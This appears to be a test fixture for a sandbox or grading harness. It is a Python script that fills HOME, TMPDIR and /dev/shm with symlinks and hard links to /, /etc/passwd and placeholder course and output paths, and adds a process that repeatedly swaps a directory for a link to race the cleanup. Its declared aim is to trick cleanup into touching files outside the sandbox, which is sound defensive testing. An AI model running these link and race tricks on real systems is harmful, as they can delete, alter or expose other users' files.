# ruff: noqa
"""Fills its folders with links that lead out, so that whoever tidies up tidies up elsewhere."""

FAMILY = "breaking out"
MAY_PASS = []
MUST_NOT = "A file of the course, of the results or of anybody else is removed, changed or copied."

# %%
import os
import socket
import tempfile

targets = [
    "/",
    "..",
    "@OUT@",
    os.path.dirname("@SERVER@"),
    "@DATA_FOLDER@",
    *"@COURSE_FILES@".split("|"),
    "/etc/passwd",
]
for folder in (os.environ["HOME"], os.environ["TMPDIR"], "/dev/shm"):
    for number, target in enumerate(targets):
        for make in (os.symlink, os.link):
            try:
                make(target, os.path.join(folder, f"{make.__name__}{number}"))
            except OSError as error:
                print(error)
    try:
        os.symlink(folder, os.path.join(folder, "again"))
        os.mkfifo(os.path.join(folder, "fifo"))
        socket.socket(socket.AF_UNIX).bind(os.path.join(folder, "socket"))
    except OSError as error:
        print(error)
# A directory that becomes a link while somebody walks through it.
home = os.environ["HOME"]
os.mkdir(f"{home}/swapped")
if os.fork() == 0:
    os.setsid()
    for _ in range(20_000):
        try:
            os.rename(f"{home}/swapped", f"{home}/aside")
            os.symlink("@OUT@", f"{home}/swapped")
            os.unlink(f"{home}/swapped")
            os.rename(f"{home}/aside", f"{home}/swapped")
        except OSError:
            break
    os._exit(0)
# And the folder itself becomes one.
try:
    os.rename(home, home + "-gone")
    os.symlink("@OUT@", home)
except OSError as error:
    print(error)
